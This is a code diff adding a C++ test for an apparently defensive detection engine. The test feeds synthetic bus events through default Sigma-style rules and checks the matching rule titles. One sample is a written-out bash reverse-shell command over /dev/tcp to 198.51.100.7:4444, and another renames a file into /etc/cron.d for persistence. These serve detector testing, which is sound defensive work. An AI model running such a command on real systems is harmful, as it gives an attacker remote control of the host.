@@ -3,6 +3,8 @@
 #include <netinet/in.h>
 #include <sys/socket.h>
 
+#include <algorithm>
+
 #include <vigil/sdk.hpp>
 
 #include "behavior_sigma/event_builder.hpp"
@@ -187,4 +189,47 @@ TEST_CASE("behavior_sigma_event: unknown process and malformed payloads") {
     REQUIRE(out_of_range);
     CHECK_FALSE(out_of_range->has(FieldId::TargetFilename));
     CHECK_FALSE(event_from_message(VIGIL_TYPE_THREAT, b.data(), b.size()));
+}
+
+TEST_CASE("behavior_sigma_event: bus payloads through the default rules (the glue's path)") {
+    vigil::sigma::Detector d;
+    REQUIRE(d.load(vigil::sigma::LoadOptions{{}, true}).skipped == 0);
+    auto titles = [&](uint32_t type, const void* data, uint32_t size) {
+        std::vector<std::string> out;
+        if (auto ev = event_from_message(type, data, size))
+            for (const auto& m : d.evaluate(*ev)) out.push_back(m.rule->title);
+        return out;
+    };
+    auto has = [](const std::vector<std::string>& v, std::string_view t) {
+        return std::find(v.begin(), v.end(), t) != v.end();
+    };
+
+    auto p = sample_process();
+    p.exe = "/usr/bin/bash";
+    p.cmdline = "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";
+    vigil::PayloadBuilder<vigil_process_event> start;
+    start.set_process(&vigil_process_event::process, p);
+    CHECK(has(titles(VIGIL_TYPE_PROCESS_START, start.data(), start.size()), "Reverse Shell Through /dev/tcp Redirection"));
+
+    vigil::PayloadBuilder<vigil_network_event> net;
+    net.set_process(&vigil_network_event::process, p);
+    net.head().action = VIGIL_NET_CONNECT;
+    net.head().family = AF_INET;
+    net.head().protocol = IPPROTO_TCP;
+    net.head().remote_port = 4444;
+    inet_pton(AF_INET, "198.51.100.7", net.head().remote_addr);
+    CHECK(has(titles(VIGIL_TYPE_NETWORK, net.data(), net.size()), "Outbound Connection by a Shell"));
+
+    vigil::PayloadBuilder<vigil_file_event> file;
+    file.set_process(&vigil_file_event::process, p);
+    file.head().action = VIGIL_FILE_RENAME;
+    file.head().path = file.add("/tmp/.x");
+    file.head().new_path = file.add("/etc/cron.d/x");
+    CHECK(has(titles(VIGIL_TYPE_FILE, file.data(), file.size()), "Cron Job File Written"));
+
+    p.exe = "/usr/bin/ls";
+    p.cmdline = "ls -la";
+    vigil::PayloadBuilder<vigil_process_event> benign;
+    benign.set_process(&vigil_process_event::process, p);
+    CHECK(titles(VIGIL_TYPE_PROCESS_START, benign.data(), benign.size()).empty());
 }
